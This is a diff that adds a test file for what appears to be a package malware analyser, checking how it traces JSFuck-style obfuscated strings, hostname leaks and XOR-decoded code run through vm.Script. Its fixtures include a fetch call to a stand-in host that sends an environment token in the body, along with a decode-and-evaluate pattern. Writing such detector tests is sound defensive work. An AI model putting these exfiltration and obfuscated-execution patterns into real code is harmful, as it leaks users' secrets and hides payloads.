@@ -1,0 +1,38 @@
+import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
+import { flowsOf } from '../platform/sent.js';
+
+/** What a package says that sends a text of its own. */
+function sent(expression: string): string | undefined {
+  const code = `fetch('https://told.invalid/' + (${expression}), { body: process.env.A_TOKEN });`;
+  return analysePackage(packageOf({ 'index.js': code })).flows[0]?.address?.slice('https://told.invalid/'.length);
+}
+
+describe('members', () => {
+  it('of texts, numbers and truths are what JSFuck takes its letters from', () => {
+    assert.equal(sent(`([]+[])['constructor']['name']`), 'String');
+    assert.equal(sent(`(+false+[false]+([]+[])['constructor'])[20]`), 'g');
+    assert.equal(sent(`((+[])['constructor']+'')[9]`), 'N');
+    assert.equal(sent(`((![])['constructor']+'')[9]`), 'B');
+    assert.equal(sent(`([]['entries']()+'')[3]`), 'j');
+    assert.equal(sent(`('')['fontcolor']('"')[13]`), '&');
+    assert.equal(sent(`[]['flat']['constructor']('return/0/')()['constructor']()+''`), '/(?:)/');
+  });
+
+  it('say nothing of a text by its length', () => {
+    assert.deepEqual(
+      flowsOf(`const id = [os.hostname(), s].join(';'); fetch('https://collect.invalid/' + id.length);`),
+      [],
+    );
+  });
+
+  it('that are bytes make up what was decoded, whatever the arithmetic', () => {
+    const decode = (run: string) =>
+      flowsOf(`const t = '2a2b2c2d2e2f3031323334', b = Buffer.alloc(t.length / 2);
+        for (let i = 0; i < b.length; i++) b[i] = parseInt(t.slice(2 * i, 2 * i + 2), 16) ^ 93;
+        ${run}`);
+    assert.deepEqual(decode('new (require("vm").Script)(b.toString()).runInThisContext();'), ['decoded>evaluated']);
+    assert.deepEqual(decode('console.log(b.toString());'), []);
+  });
+});
